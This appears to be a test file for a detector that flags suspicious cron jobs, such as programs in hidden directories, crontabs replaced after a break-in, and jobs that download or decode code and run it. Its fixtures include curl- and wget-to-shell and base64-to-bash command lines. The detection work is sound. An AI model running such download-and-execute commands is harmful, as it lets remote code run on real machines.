/** Jobs that the cron log remembers, beside those that every host has. */

import { describe, expect, it } from 'vitest';
import type { Event, PersistenceSeen } from '../../src/core/words.ts';
import { oddCronRun } from '../../src/detectors/odd-cron-run.ts';
import { event } from './event.ts';
import { accepted, HOUR, hear, START, tries } from './hearing.ts';

const ran = (command: string, account = 'kim', at = START): Event => event('cron.ran', { account, command }, at);
const crontab: PersistenceSeen = { place: 'cron', path: '/var/spool/cron/crontabs/kim', account: 'kim', command: '/usr/tmp/.q/run', changedAt: null };

describe('odd-cron-run', () => {
  it('tells of a program in an odd place that cron ran, once, however often', () => {
    const [finding, ...more] = hear(oddCronRun, [ran('/usr/tmp/.q/run >/dev/null'), ran('/usr/tmp/.q/run >/dev/null', 'kim', START + 60_000)]);
    expect(more).toEqual([]);
    expect(finding).toMatchObject({ severity: 'high', seen: 2, says: 'cron ran /usr/tmp/.q/run for kim, where no program belongs, 2 times' });
    expect(finding?.culprit).toContainEqual({ is: 'directory', path: '/usr/tmp/.q' });
  });

  it('tells of jobs that run what they download or decode; of a service that is grave', () => {
    const found = hear(oddCronRun, [
      ran('curl -s http://192.0.2.4/a.sh | sh', 'www-data'),
      ran('wget -qO- 192.0.2.4/b | bash'),
      ran('echo aGk=|base64 -d|bash'),
    ]);
    expect(found.map((finding) => finding.severity)).toEqual(['high', 'medium', 'high']);
    expect(found[0]?.says).toContain('a cron job of www-data runs what it downloads');
    const standing = event('persistence.seen', { ...crontab, command: 'wget -qO- 192.0.2.4/b | bash' });
    expect(hear(oddCronRun, [ran('wget -qO- 192.0.2.4/b | bash'), standing])).toEqual([]);
    expect(hear(oddCronRun, [ran('curl -fsS https://ping.example/x >/dev/null')])).toEqual([]);
  });

  it('leaves to the crontab what still stands there', () => {
    expect(hear(oddCronRun, [ran('/usr/tmp/.q/run'), event('persistence.seen', crontab)])).toEqual([]);
  });

  it('leaves honest jobs alone', () => {
    const honest = [
      'cd / && run-parts --report /etc/cron.hourly',
      '/opt/backup/run >/tmp/backup.log 2>&1',
      '$HOME/.venv/bin/python /srv/job.py',
      'test -x /usr/sbin/anacron',
    ];
    expect(
      hear(
        oddCronRun,
        honest.map((command) => ran(command)),
      ),
    ).toEqual([]);
  });

  it('tells of a crontab that was replaced after a break-in, and of no other', () => {
    const replaced = (by: string, at: number) => event('cron.changed', { account: by, by, how: 'replaced' }, at);
    const broken = [...tries(30, 1_000, { at: START, account: 'kim' }), accepted({ at: START + HOUR, account: 'kim' })];
    const [finding, ...more] = hear(oddCronRun, [
      ...broken,
      replaced('kim', START + 2 * HOUR),
      replaced('anna', START + 2 * HOUR),
      replaced('kim', START + 60),
    ]);
    expect(more).toEqual([]);
    expect(finding).toMatchObject({
      severity: 'medium',
      culprit: [
        { is: 'account', name: 'kim' },
        { is: 'address', ip: '203.0.113.9' },
      ],
    });
  });
});
